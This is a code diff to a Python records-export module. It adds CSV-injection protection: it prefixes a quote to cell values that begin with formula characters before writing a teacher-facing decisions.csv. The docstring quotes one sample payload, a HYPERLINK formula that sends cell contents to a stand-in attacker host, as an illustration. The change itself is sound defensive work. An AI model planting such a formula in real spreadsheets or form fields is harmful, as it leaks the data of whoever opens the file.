@@ -97,6 +97,22 @@ def session_records(store: Store, room: str | None = None) -> list[Record]:
     return records
 
 
+#: What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    """``value`` for a CSV cell: text a spreadsheet would run as a formula gets a ``'`` first.
+
+    A display name such as ``=HYPERLINK("http://evil.example/?"&A1)`` would
+    otherwise be a live formula in the teacher's spreadsheet. Numbers are
+    left as they are; the Parquet file and the records keep the text exactly.
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def decision_rows(records: list[Record]) -> list[dict[str, Any]]:
     """One row per action of every record (:data:`DECISION_COLUMNS`)."""
     rows = []
@@ -150,7 +166,7 @@ def write_records(records: list[Record], folder: str | Path, *, overwrite: bool 
     buffer = io.StringIO()
     writer = csv.DictWriter(buffer, fieldnames=DECISION_COLUMNS)
     writer.writeheader()
-    writer.writerows(rows)
+    writer.writerows({k: spreadsheet_safe(v) for k, v in row.items()} for row in rows)
     (folder / "decisions.csv").write_text(buffer.getvalue(), encoding="utf-8", newline="")
     try:
         import pyarrow as pa
